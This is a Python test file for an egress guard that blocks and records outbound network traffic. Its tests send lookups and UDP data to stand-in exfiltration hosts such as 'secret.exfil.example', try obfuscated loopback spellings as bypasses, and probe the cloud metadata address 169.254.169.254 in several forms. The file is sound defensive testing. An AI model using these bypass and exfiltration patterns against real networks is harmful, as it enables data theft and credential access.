"""The process egress guard, tried the way an attacker or a careless library would.

Every connection here targets loopback; denied connections are refused by the audit hook
before any system call, and always-denied addresses are checked at the matcher level only.
"""

from __future__ import annotations

import _socket
import asyncio
import concurrent.futures
import socket
import sys
from collections.abc import Iterator

import httpx
import pytest
import uvloop

from policy import (
    EgressBlocked,
    EgressDenied,
    EgressEvent,
    EgressGuard,
    EgressMatcher,
    GuardSelfTestFailed,
    Policy,
)


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A listening TCP socket on loopback (the allowed destination)."""
    with socket.create_server(("127.0.0.1", 0)) as srv:
        yield srv


@pytest.fixture
def closed_port() -> int:
    """A loopback port nobody listens on and no destination names."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _policy(port: int, extra: str = "") -> Policy:
    return Policy.from_text(
        "version: 1\n"
        "data_classes: [public]\n"
        "destinations:\n"
        f"  - {{id: local, host: 127.0.0.1, port: {port}, region: lo, jurisdiction: EU,"
        " operator: me}\n"
        "  - {id: model, host: MODEL.Internal., port: 8443, region: lo, jurisdiction: EU,"
        " operator: me, resolves_to: [127.0.0.0/8]}\n" + extra
    )


@pytest.fixture
def events() -> list[EgressEvent]:
    return []


@pytest.fixture
def guard(listener: socket.socket, events: list[EgressEvent]) -> Iterator[EgressGuard]:
    g = EgressGuard(_policy(listener.getsockname()[1]), on_event=events.append)
    with g:
        yield g


def test_unrelated_code_is_blocked_and_recorded(
    guard: EgressGuard, events: list[EgressEvent], closed_port: int
) -> None:
    with pytest.raises(EgressDenied) as info:
        socket.create_connection(("127.0.0.1", closed_port), timeout=1)
    assert info.value.code == "egress_denied"
    # An OSError, so library code cleans up its half-made socket.
    assert isinstance(info.value, EgressBlocked) and isinstance(info.value, PermissionError)
    assert len(events) == 1
    ev = events[0]
    assert (ev.host, ev.port, ev.address, ev.decision) == (
        "127.0.0.1", closed_port, "127.0.0.1", "deny",
    )
    assert ev.event == "socket.connect" and ev.destination_id is None
    assert "test_unrelated_code_is_blocked_and_recorded" in ev.caller
    assert list(guard.events) == events


def test_allowed_destination_connects(
    guard: EgressGuard, events: list[EgressEvent], listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    with socket.create_connection(("127.0.0.1", port), timeout=1) as c:
        peer, _ = listener.accept()
        c.sendall(b"ping")
        assert peer.recv(4) == b"ping"
        peer.close()
    assert events == []


@pytest.mark.parametrize("spelling", ["127.1", "2130706433", "0x7f000001", "0177.0.0.1"])
def test_legacy_spellings_cannot_walk_around(
    guard: EgressGuard, events: list[EgressEvent], listener: socket.socket, closed_port: int,
    spelling: str,
) -> None:
    with pytest.raises(EgressDenied):
        socket.create_connection((spelling, closed_port), timeout=1)
    assert events[-1].address == "127.0.0.1"
    # ...and the same spelling of the allowed destination is the allowed destination.
    socket.create_connection((spelling, listener.getsockname()[1]), timeout=1).close()


def test_ipv4_mapped_ipv6_is_the_ipv4_address(
    guard: EgressGuard, events: list[EgressEvent], listener: socket.socket, closed_port: int
) -> None:
    if not socket.has_ipv6:
        pytest.skip("no IPv6 in this kernel")
    with pytest.raises(EgressDenied):
        socket.create_connection(("::ffff:127.0.0.1", closed_port), timeout=1)
    assert events[-1].address == "127.0.0.1"
    with socket.socket(socket.AF_INET6) as s:
        s.settimeout(1)
        s.connect(("::ffff:127.0.0.1", listener.getsockname()[1]))


def test_blocked_from_threads_asyncio_and_third_party_clients(
    guard: EgressGuard, events: list[EgressEvent], closed_port: int
) -> None:
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        fut = pool.submit(socket.create_connection, ("127.0.0.1", closed_port), 1)
        with pytest.raises(EgressDenied):
            fut.result()

    async def via_loop() -> None:
        await asyncio.open_connection("127.0.0.1", closed_port)

    with pytest.raises(EgressDenied):
        asyncio.run(via_loop())
    with pytest.raises(httpx.ConnectError) as err, httpx.Client(trust_env=False) as client:
        client.get(f"http://127.0.0.1:{closed_port}/")
    assert "denied by policy" in str(err.value)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp, pytest.raises(EgressDenied):
        udp.sendto(b"exfil", ("127.0.0.1", closed_port))
    assert len(events) == 4 and all(e.decision == "deny" for e in events)
    assert {e.event for e in events} == {"socket.connect", "socket.sendto"}


def test_name_lookups_need_a_destination(guard: EgressGuard, events: list[EgressEvent]) -> None:
    # sys.audit raises exactly the event getaddrinfo raises, without sending a DNS query.
    with pytest.raises(EgressDenied, match=r"no destination names exfil\.example\.org:443"):
        sys.audit("socket.getaddrinfo", "exfil.example.org", 443, 0, 0, 0)
    with pytest.raises(EgressDenied):
        sys.audit("socket.gethostbyname", "secret-data.exfil.example.org")
    assert [e.event for e in events] == ["socket.getaddrinfo", "socket.gethostbyname"]
    # localhost is resolved from /etc/hosts; the connection is still checked.
    socket.getaddrinfo("localhost", 80)


def test_hostname_destinations_pin_their_first_resolution(events: list[EgressEvent]) -> None:
    answers = iter([["127.0.0.1"], ["127.0.0.99"]])
    calls: list[tuple[str, int]] = []

    def resolver(host: str, port: int) -> list[str]:
        calls.append((host, port))
        return next(answers)

    g = EgressGuard(_policy(1), on_event=events.append, resolver=resolver)
    with g:
        for spelling in ("MODEL.INTERNAL.", "model.internal"):  # case and trailing dot
            sys.audit("socket.getaddrinfo", spelling, 8443, 0, 0, 0)
        assert calls == [("model.internal", 8443)]  # resolved once
        assert {str(ip) for ip in g.pins.get("model.internal") or ()} == {"127.0.0.1"}
        assert g.matcher.check_connect("127.0.0.1", 8443).destination_id == "model"
        # A rebound answer is not pinned: the connection is refused.
        assert not g.matcher.check_connect("127.0.0.99", 8443).allowed
        assert not g.matcher.check_connect("127.0.0.1", 8444).allowed
        with pytest.raises(EgressDenied):
            sys.audit("socket.getaddrinfo", "model.internal", 9999, 0, 0, 0)
    assert events[-1].port == 9999


def test_hostname_resolving_outside_its_networks_is_denied(events: list[EgressEvent]) -> None:
    g = EgressGuard(_policy(1), on_event=events.append, resolver=lambda h, p: ["169.254.169.254"])
    with g, pytest.raises(EgressDenied, match=r"169\.254\.169\.254, outside resolves_to"):
        sys.audit("socket.getaddrinfo", "model.internal", 8443, 0, 0, 0)
    assert g.pins.get("model.internal") is None


@pytest.mark.parametrize(
    "address",
    ["169.254.169.254", "::ffff:169.254.169.254", "2852039166", "fe80::1", "0.0.0.0", "0"],  # noqa: S104
)
def test_metadata_and_link_local_always_denied(address: str) -> None:
    unsafe = _policy(1, "unsafe_allow_all: true\n")
    for p in (_policy(1), unsafe):
        verdict = EgressMatcher(p).check_connect(address, 80)
        assert not verdict.allowed and "always denied" in verdict.reason


def test_explicitly_named_metadata_address_is_allowed() -> None:
    p = _policy(1, "  - {id: imds, host: 169.254.169.254, port: 80, region: lo,"
                   " jurisdiction: EU, operator: cloud, purpose: other}\n")
    assert EgressMatcher(p).check_connect("::ffff:169.254.169.254", 80).destination_id == "imds"


def test_monitor_mode_records_but_lets_through(
    listener: socket.socket, events: list[EgressEvent]
) -> None:
    port = listener.getsockname()[1]
    with EgressGuard(_policy(port + 1 if port < 65535 else 1), mode="monitor",
                     on_event=events.append):
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    assert [(e.decision, e.port) for e in events] == [("monitor", port)]


def test_uninstalled_guard_is_a_no_op(closed_port: int, events: list[EgressEvent]) -> None:
    g = EgressGuard(_policy(1), on_event=events.append).install()
    g.uninstall()
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(("127.0.0.1", closed_port), timeout=1)
    assert events == [] and not g.installed


def test_record_allowed_delivers_allowed_connections(listener: socket.socket) -> None:
    got: list[EgressEvent] = []
    port = listener.getsockname()[1]
    with EgressGuard(_policy(port), on_event=got.append, record_allowed=True):
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    assert [(e.decision, e.destination_id) for e in got] == [("allow", "local")]


# --- self-test ---------------------------------------------------------------------------------

def test_self_test_passes_with_the_standard_loop(guard: EgressGuard, closed_port: int,
                                                 events: list[EgressEvent]) -> None:
    guard.self_test(("127.0.0.1", closed_port))
    asyncio.run(guard.aself_test(("127.0.0.1", closed_port)))
    assert events == []  # the probe is not an incident


def test_self_test_probe_is_blocked_even_in_monitor_mode(
    listener: socket.socket, closed_port: int
) -> None:
    with EgressGuard(_policy(listener.getsockname()[1]), mode="monitor") as g:
        g.self_test(("127.0.0.1", closed_port))


def test_self_test_fails_under_uvloop(guard: EgressGuard, closed_port: int) -> None:
    loop = uvloop.new_event_loop()
    try:
        with pytest.raises(GuardSelfTestFailed, match="uvloop") as info:
            loop.run_until_complete(guard.aself_test(("127.0.0.1", closed_port)))
    finally:
        loop.close()
    assert info.value.code == "guard_self_test_failed"
    assert isinstance(info.value.__cause__, ConnectionRefusedError)  # it really connected


def test_self_test_fails_when_not_installed_or_target_allowed(
    listener: socket.socket, closed_port: int
) -> None:
    port = listener.getsockname()[1]
    g = EgressGuard(_policy(port))
    with pytest.raises(GuardSelfTestFailed, match="not installed"):
        g.self_test(("127.0.0.1", closed_port))
    with g, pytest.raises(GuardSelfTestFailed, match="allowed by the policy"):
        g.self_test(("127.0.0.1", port))


def test_default_self_test_target_is_denied(guard: EgressGuard) -> None:
    assert not guard.matcher.check_connect("192.0.2.1", 9).allowed


def test_failing_recorder_neither_breaks_nor_unblocks(
    closed_port: int, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(ev: EgressEvent) -> None:
        raise RuntimeError("audit store down")

    with EgressGuard(_policy(1), on_event=broken) as g, pytest.raises(EgressBlocked):
        socket.create_connection(("127.0.0.1", closed_port), timeout=1)
    assert len(g.events) == 1
    assert "on_event callback failed" in caplog.text


def test_self_test_fails_when_the_name_checks_were_replaced(
    guard: EgressGuard, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Code that swaps socket.socket.connect (a monkey-patching library) would let
    # connect((name, port)) resolve unchecked: the start-up self-test must say so.
    monkeypatch.setattr(socket.socket, "connect", _socket.socket.connect)
    with pytest.raises(GuardSelfTestFailed, match="name checks"):
        guard.self_test()
    monkeypatch.undo()
    guard.self_test()


def test_reverse_lookup_is_refused_before_any_query(
    guard: EgressGuard, events: list[EgressEvent]
) -> None:
    with pytest.raises(EgressBlocked):
        socket.gethostbyaddr("127.0.0.1")
    with pytest.raises(EgressBlocked):
        socket.getnameinfo(("127.0.0.1", 80), socket.NI_NUMERICHOST)
    assert [(e.event, e.host, e.decision) for e in events] == [
        ("socket.gethostbyaddr", "127.0.0.1", "deny"), ("socket.getnameinfo", "127.0.0.1", "deny")]


def test_connect_by_unnamed_hostname_is_refused_before_resolution(
    guard: EgressGuard, events: list[EgressEvent]
) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, pytest.raises(EgressBlocked):
        s.sendto(b"x", ("secret.exfil.example", 53))
    assert [(e.event, e.host, e.port) for e in events] == [
        ("socket.sendto", "secret.exfil.example", 53)]
